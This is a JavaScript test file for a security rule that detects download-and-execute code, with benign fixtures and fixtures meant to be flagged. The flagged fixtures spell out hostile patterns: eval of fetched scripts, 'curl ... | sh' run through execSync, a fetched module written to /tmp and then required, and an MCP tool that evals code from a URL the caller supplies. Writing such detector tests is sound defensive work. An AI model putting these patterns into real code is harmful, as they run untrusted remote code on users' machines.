import { downloadAndExecute } from '../../../src/rules/code/download-and-execute.js';
import { codeRuleTester } from './code-rule-tester.js';

codeRuleTester(downloadAndExecute, {
  valid: [
    {
      name: 'fetch parsed as JSON',
      files: {
        'index.js': [
          "const res = await fetch('https://api.example.invalid/v1/items');",
          'const items = await res.json();',
          'console.log(items.length);',
        ].join('\n'),
      },
    },
    {
      name: 'a downloaded file saved without execute permission',
      files: {
        'index.js': [
          "import { writeFileSync, chmodSync } from 'node:fs';",
          'const res = await fetch(process.argv[2]);',
          "writeFileSync('/tmp/report.pdf', Buffer.from(await res.arrayBuffer()));",
          "chmodSync('/tmp/report.pdf', 0o644);",
        ].join('\n'),
      },
    },
    {
      name: 'a local binary spawned with a URL read from an API',
      files: {
        'index.js': [
          "const { execFileSync } = require('child_process');",
          "const axios = require('axios');",
          'async function clone() {',
          "  const { data } = await axios.get('https://api.example.invalid/repo');",
          "  execFileSync('git', ['clone', data.clone_url]);",
          '}',
          'module.exports = { clone };',
        ].join('\n'),
      },
    },
    {
      name: 'eval of a constant and a globalThis shim',
      files: { 'index.js': "const g = new Function('return this')();\nconst r = eval('require');\n" },
    },
    {
      name: 'a regular expression exec over downloaded text',
      files: {
        'index.js': [
          'const PATTERN = /version: (\\S+)/;',
          "const text = await (await fetch('https://example.invalid/v')).text();",
          'console.log(PATTERN.exec(text));',
        ].join('\n'),
      },
    },
  ],
  invalid: [
    {
      name: 'eval of fetched text',
      files: {
        'index.js': [
          "const response = await fetch('https://cdn.example.invalid/a.js');",
          'const code = await response.text();',
          'eval(code);',
        ].join('\n'),
      },
      hits: [{ file: 'index.js', line: 3, column: 1, message: 'fetch (line 1)' }],
    },
    {
      name: 'vm.runInNewContext through a promise chain',
      files: {
        'index.cjs': [
          "const vm = require('vm');",
          "const got = require('got');",
          "got('http://198.51.100.4/p').then((r) => vm.runInNewContext(r.body, {}));",
        ].join('\n'),
      },
      hits: [{ file: 'index.cjs', line: 3, column: 42, message: 'vm.runInNewContext' }],
    },
    {
      name: 'curl piped into sh',
      files: {
        'index.js': [
          "import { execSync } from 'node:child_process';",
          "execSync('curl -fsSL https://get.example.invalid/i.sh | sh');",
        ].join('\n'),
      },
      hits: [{ file: 'index.js', line: 2, column: 1, message: 'pipes a download' }],
    },
    {
      name: 'a download written to disk then required, across files',
      files: {
        'paths.js': "export const cachePath = '/tmp/.mod-cache.js';\n",
        'index.js': [
          "import { writeFile } from 'node:fs/promises';",
          "import { createRequire } from 'node:module';",
          "import { cachePath } from './paths.js';",
          'const require = createRequire(import.meta.url);',
          "const body = await (await fetch('https://cdn.example.invalid/m.js')).text();",
          'await writeFile(cachePath, body);',
          'require(cachePath);',
        ].join('\n'),
      },
      hits: [{ file: 'index.js', line: 7, column: 1, message: 'loads a file holding' }],
    },
    {
      name: 'a tool argument URL executed is high',
      files: {
        'index.js': [
          "import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js';",
          "const server = new McpServer({ name: 'x', version: '1.0.0' });",
          "server.tool('run_remote', 'Run a script', {}, async ({ url }) => {",
          '  const res = await fetch(url);',
          '  return eval(await res.text());',
          '});',
        ].join('\n'),
      },
      hits: [{ file: 'index.js', line: 5, column: 10, severity: 'high', message: 'tool caller supplies' }],
    },
  ],
});
